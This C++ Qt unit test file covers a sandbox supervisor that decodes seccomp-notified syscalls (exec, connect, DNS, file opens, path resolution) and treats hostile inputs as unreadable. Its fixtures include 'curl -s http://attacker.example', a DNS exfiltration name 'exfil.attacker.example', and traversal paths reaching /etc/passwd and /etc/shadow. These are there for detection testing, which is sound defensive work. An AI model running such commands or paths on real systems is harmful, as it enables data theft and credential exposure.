// Decoding supervised calls from a real process's memory (this one's,
// through /proc/self/mem, as the supervisor reads a sandboxed process's):
// the program and its arguments, addresses, DNS questions; and everything a
// hostile process could hand over instead (unterminated strings, pointers to
// nowhere, lengths out of range) read as unreadable, never guessed.
#include "core/common/SandboxContract.h"
#include "core/supervise/DnsQuestion.h"
#include "core/supervise/SandboxPath.h"
#include "core/supervise/SyscallNotice.h"
#include "core/supervise/TraceeMemory.h"

#include <QtTest>

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstring>
#include <string>
#include <thread>
#include <vector>

using namespace warden;
using supervised::CallClass;

namespace {

std::uint64_t addressOf(const void *p)
{
    return reinterpret_cast<std::uintptr_t>(p);
}

seccomp_notif notification(long nr, std::initializer_list<std::uint64_t> args)
{
    seccomp_notif n{};
    n.id = 42;
    n.pid = static_cast<__u32>(::getpid());
    n.data.nr = static_cast<int>(nr);
    std::size_t i = 0;
    for (std::uint64_t a : args)
        n.data.args[i++] = a;
    return n;
}

SyscallNotice decode(const seccomp_notif &n)
{
    TraceeMemory memory(::getpid());
    return SyscallNotice::decode(n, memory);
}

// A DNS query for `name` (one question, type A), as a resolver sends it.
std::vector<std::uint8_t> dnsQuery(const std::string &name)
{
    std::vector<std::uint8_t> q = {0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0, 0, 0, 0, 0, 0};
    std::size_t at = 0;
    while (at <= name.size()) {
        std::size_t dot = name.find('.', at);
        if (dot == std::string::npos)
            dot = name.size();
        q.push_back(static_cast<std::uint8_t>(dot - at));
        q.insert(q.end(), name.begin() + static_cast<long>(at), name.begin() + static_cast<long>(dot));
        at = dot + 1;
    }
    q.insert(q.end(), {0, 0, 1, 0, 1});
    return q;
}

} // namespace

class TestSyscallNotice : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void memoryReadsWhatIsThereWithinItsBounds()
    {
        TraceeMemory memory(::getpid());
        QVERIFY(memory.isOpen());
        const char text[] = "/usr/bin/curl";
        QCOMPARE(memory.string(addressOf(text)).value_or("?"), std::string(text));
        // No terminator within the bound: refused, not cut.
        std::string longer(TraceeMemory::kMaxString + 10, 'a');
        std::vector<char> unterminated(longer.begin(), longer.end());
        QVERIFY(!memory.string(addressOf(unterminated.data())));
        // Pointers to nowhere, and past what pread can address.
        QVERIFY(!memory.string(0));
        QVERIFY(!memory.string(16));
        QVERIFY(!memory.string(~0ULL - 3));
        QVERIFY(!memory.bytes(~0ULL - 3, 8));
        QVERIFY(!memory.bytes(addressOf(text), TraceeMemory::kMaxTotal + 1));
        // A process that is not there has no memory to read.
        TraceeMemory none(0);
        QVERIFY(!none.isOpen());
        QVERIFY(!none.string(addressOf(text)));
    }

    void argvArraysAreBounded()
    {
        TraceeMemory memory(::getpid());
        const char *argv[] = {"curl", "-s", "http://attacker.example", nullptr};
        bool truncated = true;
        auto words = memory.strings(addressOf(argv), truncated);
        QVERIFY(words.has_value());
        QVERIFY(!truncated);
        QCOMPARE(*words, (std::vector<std::string>{"curl", "-s", "http://attacker.example"}));
        // More words than the bound: what fits, said to be cut.
        std::vector<const char *> many(TraceeMemory::kMaxWords + 20, "x");
        many.push_back(nullptr);
        words = memory.strings(addressOf(many.data()), truncated);
        QVERIFY(words.has_value());
        QVERIFY(truncated);
        QCOMPARE(words->size(), TraceeMemory::kMaxWords);
        // A word that points nowhere makes the whole array unreadable.
        const char *broken[] = {"ok", reinterpret_cast<const char *>(16), nullptr};
        QVERIFY(!memory.strings(addressOf(broken), truncated));
    }

    void execIsTheProgramAndItsArguments()
    {
        const char path[] = "/usr/bin/curl";
        const char *argv[] = {"curl", "-s", "http://attacker.example", nullptr};
        SyscallNotice s = decode(notification(__NR_execve, {addressOf(path), addressOf(argv), 0}));
        QVERIFY(!s.unreadable);
        QCOMPARE(s.kind, CallClass::Exec);
        QCOMPARE(s.call, std::string("execve"));
        QCOMPARE(s.path, std::string(path));
        const Action a = s.toAction();
        QCOMPARE(a.kind, ActionKind::Process);
        QCOMPARE(a.source, std::string("syscall"));
        QCOMPARE(a.argv, (std::vector<std::string>{"/usr/bin/curl", "-s", "http://attacker.example"}));
        // execveat(dirfd, path, argv, envp, flags)
        s = decode(notification(__NR_execveat, {0, addressOf(path), addressOf(argv), 0, 0}));
        QVERIFY(!s.unreadable);
        QCOMPARE(s.path, std::string(path));
        // An empty argv still names the program.
        s = decode(notification(__NR_execve, {addressOf(path), 0, 0}));
        QCOMPARE(s.toAction().argv, (std::vector<std::string>{"/usr/bin/curl"}));
        // A path that points nowhere is unreadable, and says why.
        s = decode(notification(__NR_execve, {16, addressOf(argv), 0}));
        QVERIFY(s.unreadable);
        QVERIFY(!s.why.empty());
    }

    void connectNamesTheAddress()
    {
        sockaddr_in in{};
        in.sin_family = AF_INET;
        in.sin_port = htons(80);
        ::inet_pton(AF_INET, "192.0.2.1", &in.sin_addr);
        SyscallNotice s = decode(notification(__NR_connect, {3, addressOf(&in), sizeof(in)}));
        QVERIFY(!s.unreadable);
        QCOMPARE(s.host, std::string("192.0.2.1"));
        QCOMPARE(s.port, 80);
        QVERIFY(!s.staysInside());
        Action a = s.toAction();
        QCOMPARE(a.kind, ActionKind::Egress);
        QCOMPARE(a.host, std::string("192.0.2.1"));
        QCOMPARE(a.port, 80);
        QCOMPARE(a.method, std::string("connect"));

        sockaddr_in6 in6{};
        in6.sin6_family = AF_INET6;
        in6.sin6_port = htons(443);
        ::inet_pton(AF_INET6, "2001:db8::1", &in6.sin6_addr);
        s = decode(notification(__NR_connect, {3, addressOf(&in6), sizeof(in6)}));
        QCOMPARE(s.host, std::string("2001:db8::1"));
        QCOMPARE(s.port, 443);
        QVERIFY(!s.staysInside());
    }

    void whatStaysInsideIsLetThrough()
    {
        sockaddr_in bridge{};
        bridge.sin_family = AF_INET;
        bridge.sin_port = htons(contract::kProxyPort);
        bridge.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        QVERIFY(decode(notification(__NR_connect, {3, addressOf(&bridge), sizeof(bridge)})).staysInside());
        sockaddr_un gateway{};
        gateway.sun_family = AF_UNIX;
        std::strcpy(gateway.sun_path, "/run/warden/gateway.sock");
        SyscallNotice s = decode(notification(__NR_connect, {3, addressOf(&gateway), sizeof(gateway)}));
        QVERIFY(s.staysInside());
        QCOMPARE(s.host, std::string("/run/warden/gateway.sock"));
        // A DNS question is seen even on the loopback.
        sockaddr_in dns = bridge;
        dns.sin_port = htons(53);
        QVERIFY(!decode(notification(__NR_connect, {3, addressOf(&dns), sizeof(dns)})).staysInside());
        // A send on a connected socket names no address.
        QVERIFY(decode(notification(__NR_sendto, {3, 0, 0, 0, 0, 0})).staysInside());
        // Privileged calls never stay inside.
        QVERIFY(!decode(notification(__NR_unshare, {0x10000000})).staysInside());
    }

    void hostileAddressesAreUnreadable()
    {
        sockaddr_in in{};
        in.sin_family = AF_INET;
        // Too long, too short, and pointing nowhere.
        QVERIFY(decode(notification(__NR_connect, {3, addressOf(&in), 100000})).unreadable);
        QVERIFY(decode(notification(__NR_connect, {3, addressOf(&in), 1})).unreadable);
        QVERIFY(decode(notification(__NR_connect, {3, 16, sizeof(in)})).unreadable);
        // A message header that points nowhere.
        QVERIFY(decode(notification(__NR_sendmsg, {3, 16, 0})).unreadable);
    }

    void dnsQuestionsAreNamed()
    {
        const auto query = dnsQuery("exfil.attacker.example");
        sockaddr_in resolver{};
        resolver.sin_family = AF_INET;
        resolver.sin_port = htons(53);
        ::inet_pton(AF_INET, "10.0.0.2", &resolver.sin_addr);
        SyscallNotice s = decode(notification(
            __NR_sendto, {3, addressOf(query.data()), query.size(), 0, addressOf(&resolver), sizeof(resolver)}));
        QVERIFY(!s.unreadable);
        QCOMPARE(s.dnsName, std::string("exfil.attacker.example"));
        const Action a = s.toAction();
        QCOMPARE(a.host, std::string("exfil.attacker.example"));
        QCOMPARE(a.method, std::string("DNS"));
        QCOMPARE(a.port, 53);

        // The same through sendmsg.
        iovec iov{const_cast<std::uint8_t *>(query.data()), query.size()};
        msghdr m{};
        m.msg_name = &resolver;
        m.msg_namelen = sizeof(resolver);
        m.msg_iov = &iov;
        m.msg_iovlen = 1;
        s = decode(notification(__NR_sendmsg, {3, addressOf(&m), 0}));
        QVERIFY(!s.unreadable);
        QCOMPARE(s.dnsName, std::string("exfil.attacker.example"));
    }

    void malformedDnsIsNoName()
    {
        QCOMPARE(DnsQuestion::nameIn(dnsQuery("a.example")), std::string("a.example"));
        auto response = dnsQuery("a.example");
        response[2] |= 0x80;
        QVERIFY(DnsQuestion::nameIn(response).empty());
        auto compressed = dnsQuery("a.example");
        compressed[12] = 0xc0; // a pointer where a label belongs
        QVERIFY(DnsQuestion::nameIn(compressed).empty());
        auto cut = dnsQuery("a.example");
        cut.resize(16);
        QVERIFY(DnsQuestion::nameIn(cut).empty());
        auto odd = dnsQuery("a.example");
        odd[13] = '\n'; // not a host name character
        QVERIFY(DnsQuestion::nameIn(odd).empty());
        QVERIFY(DnsQuestion::nameIn({}).empty());
    }

    void privilegedCallsAreNamed()
    {
        SyscallNotice s = decode(notification(__NR_ptrace, {16, 1, 0, 0}));
        QCOMPARE(s.kind, CallClass::Privileged);
        Action a = s.toAction();
        a.seq = 1; // the run numbers it
        QCOMPARE(a.kind, ActionKind::Syscall);
        QCOMPARE(a.call, std::string("ptrace"));
        // Round trip through the trace format.
        auto back = Action::fromJson(nlohmann::json::parse(a.toJson().dump()));
        QVERIFY(back.has_value());
        QCOMPARE(back->call, std::string("ptrace"));
        QCOMPARE(back->source, std::string("syscall"));
    }

    // A path is walked as the kernel walks it for the process: through its
    // symlinks (".." after a link is the link's parent), its descriptors and
    // its working directory, never by the letter. Here the process is this
    // test, its root the machine's.
    void pathsAreWalkedWhereTheyLead()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const std::string base = QFileInfo(dir.path()).canonicalFilePath().toStdString();
        QVERIFY(QDir().mkpath(dir.filePath(QStringLiteral("real/deep"))));
        QVERIFY(QFile::link(dir.filePath(QStringLiteral("real/deep")), dir.filePath(QStringLiteral("link"))));
        QVERIFY(QFile::link(QStringLiteral("real"), dir.filePath(QStringLiteral("relative"))));
        QVERIFY(QFile::link(QStringLiteral("loop"), dir.filePath(QStringLiteral("loop"))));
        SandboxPath paths(::getpid());
        auto at = [&](const std::string &path, bool follow = true) { return paths.resolve(path, follow); };
        QCOMPARE(at(base + "/link/new").path, base + "/real/deep/new");
        QVERIFY(!at(base + "/link/new").exists);
        QCOMPARE(at(base + "/link/../x").path, base + "/real/x"); // not base + "/x"
        QCOMPARE(at(base + "/relative/deep").path, base + "/real/deep");
        QVERIFY(at(base + "/relative/deep").exists);
        // The last link followed or not, as the call says.
        QCOMPARE(at(base + "/link", false).path, base + "/link");
        QCOMPARE(at(base + "/link", true).path, base + "/real/deep");
        QCOMPARE(at(base + "/loop").kind, SandboxPath::Kind::Unresolvable);
        // Descriptors: /proc/self/fd/N, /dev/fd/N, the working directory.
        const int fd = ::open((base + "/real").c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
        QVERIFY(fd >= 0);
        const std::string n = std::to_string(fd);
        QCOMPARE(at("/proc/self/fd/" + n + "/planted").path, base + "/real/planted");
        QCOMPARE(at("/dev/fd/" + n + "/planted").path, base + "/real/planted");
        QCOMPARE(at("/proc/thread-self/fd/" + n).path, base + "/real");
        QCOMPARE(paths.descriptor(fd).path, base + "/real");
        ::close(fd);
        QCOMPARE(at("/proc/self/cwd").path, QDir::currentPath().toStdString());
        QCOMPARE(paths.resolve("x", true, base + "/link").path, base + "/real/deep/x");
        // A pipe is no file; another process's descriptors, a deleted file
        // and an anonymous one are refused.
        int pipeFds[2];
        QVERIFY(::pipe2(pipeFds, O_CLOEXEC) == 0);
        QCOMPARE(at("/proc/self/fd/" + std::to_string(pipeFds[1])).kind, SandboxPath::Kind::NotAFile);
        ::close(pipeFds[0]);
        ::close(pipeFds[1]);
        QCOMPARE(at("/proc/1/fd/0").kind, SandboxPath::Kind::Unresolvable);
        QCOMPARE(at("/proc/1/root/etc/passwd").kind, SandboxPath::Kind::Unresolvable);
        const int gone = ::open((base + "/gone").c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
        QVERIFY(gone >= 0);
        ::unlink((base + "/gone").c_str());
        QCOMPARE(paths.descriptor(gone).kind, SandboxPath::Kind::Unresolvable);
        ::close(gone);
        const int anonymous = static_cast<int>(::syscall(SYS_memfd_create, "x", MFD_CLOEXEC));
        QVERIFY(anonymous >= 0);
        QCOMPARE(paths.descriptor(anonymous).kind, SandboxPath::Kind::Unresolvable);
        ::close(anonymous);
        QCOMPARE(paths.descriptor(9999).kind, SandboxPath::Kind::Unresolvable);
    }

    // /proc/self is the thread group's leader, /proc/thread-self the
    // thread: a thread with a working directory of its own (no CLONE_FS)
    // must not have the leader's cwd judged as its own, or the reverse.
    void selfIsTheLeaderAndThreadSelfTheThread()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const std::string own = QFileInfo(dir.path()).canonicalFilePath().toStdString();
        const std::string leader = QDir::currentPath().toStdString();
        std::string viaSelf, viaThread;
        std::thread t([&] {
            if (::unshare(CLONE_FS) != 0 || ::chdir(own.c_str()) != 0)
                return;
            SandboxPath paths(static_cast<pid_t>(::syscall(SYS_gettid)));
            viaSelf = paths.resolve("/proc/self/cwd/x", true).path;
            viaThread = paths.resolve("/proc/thread-self/cwd/x", true).path;
        });
        t.join();
        QCOMPARE(viaSelf, leader + "/x");
        QCOMPARE(viaThread, own + "/x");
    }

    void pathsAreNormalisedByTheLetter()
    {
        QCOMPARE(SyscallNotice::normalised("/tmp", "x"), std::string("/tmp/x"));
        QCOMPARE(SyscallNotice::normalised("/tmp/a", "../../etc/passwd"), std::string("/etc/passwd"));
        QCOMPARE(SyscallNotice::normalised("/ignored", "/a/./b//c/"), std::string("/a/b/c"));
        QCOMPARE(SyscallNotice::normalised("/", "../../.."), std::string("/"));
        // A climb out of the scratch is no longer in the scratch.
        SyscallNotice s;
        s.kind = CallClass::Write;
        s.file = SyscallNotice::normalised("/", "/tmp/../etc/shadow");
        QVERIFY(!s.staysInside());
    }

    void writesAreTheFileMadeAbsolute()
    {
        // openat(AT_FDCWD, relative, O_WRONLY|O_CREAT): joined to this process's working directory.
        const std::string relative = "out/report.txt";
        SyscallNotice s = decode(notification(__NR_openat, {static_cast<std::uint64_t>(AT_FDCWD),
                                                            addressOf(relative.c_str()), O_WRONLY | O_CREAT, 0644}));
        QCOMPARE(s.kind, CallClass::Write);
        QVERIFY2(!s.unreadable, s.why.c_str());
        QCOMPARE(s.file, QDir::currentPath().toStdString() + "/out/report.txt");
        // Relative to a directory descriptor.
        const int dir = ::open("/etc", O_PATH | O_DIRECTORY | O_CLOEXEC);
        QVERIFY(dir >= 0);
        s = decode(notification(__NR_openat, {static_cast<std::uint64_t>(dir), addressOf("hosts"), O_WRONLY, 0}));
        ::close(dir);
        QCOMPARE(s.file, std::string("/etc/hosts"));
        QVERIFY(!s.staysInside());
        Action a = s.toAction();
        QCOMPARE(a.kind, ActionKind::File);
        QCOMPARE(a.op, std::string("write"));
        QCOMPARE(a.path, std::string("/etc/hosts"));
        // A descriptor that is no directory, and a pointer to nowhere: unreadable.
        s = decode(notification(__NR_openat, {9999, addressOf("x"), O_WRONLY, 0}));
        QVERIFY(s.unreadable);
        s = decode(notification(__NR_openat, {static_cast<std::uint64_t>(AT_FDCWD), 8, O_WRONLY, 0}));
        QVERIFY(s.unreadable);
        // The scratch and the terminal stay inside.
        for (const char *inside : {"/tmp/x", "/dev/null", "/dev/shm/y", "/dev/pts/0"}) {
            s = decode(
                notification(__NR_openat, {static_cast<std::uint64_t>(AT_FDCWD), addressOf(inside), O_WRONLY, 0}));
            QVERIFY2(s.staysInside(), inside);
        }
    }

    void openat2IsReadForItsFlags()
    {
        open_how how{};
        how.flags = O_RDONLY;
        SyscallNotice s = decode(notification(__NR_openat2, {static_cast<std::uint64_t>(AT_FDCWD),
                                                             addressOf("/etc/hosts"), addressOf(&how), sizeof(how)}));
        QVERIFY(s.readOnly && s.staysInside());
        how.flags = O_WRONLY | O_TRUNC;
        s = decode(notification(__NR_openat2, {static_cast<std::uint64_t>(AT_FDCWD), addressOf("/etc/hosts"),
                                               addressOf(&how), sizeof(how)}));
        QVERIFY(!s.readOnly && !s.staysInside());
        // An open_how too small to hold flags is refused, not guessed.
        s = decode(notification(__NR_openat2,
                                {static_cast<std::uint64_t>(AT_FDCWD), addressOf("/etc/hosts"), addressOf(&how), 4}));
        QVERIFY(s.unreadable);
    }

    void aNameServerIsDns()
    {
        sockaddr_in in{};
        in.sin_family = AF_INET;
        in.sin_port = htons(53);
        ::inet_pton(AF_INET, "10.0.0.2", &in.sin_addr);
        SyscallNotice s = decode(notification(__NR_connect, {3, addressOf(&in), sizeof(in)}));
        QVERIFY(!s.staysInside());
        QCOMPARE(s.toAction().method, std::string("DNS"));
    }
};

QTEST_GUILESS_MAIN(TestSyscallNotice)
#include "tst_syscallnotice.moc"
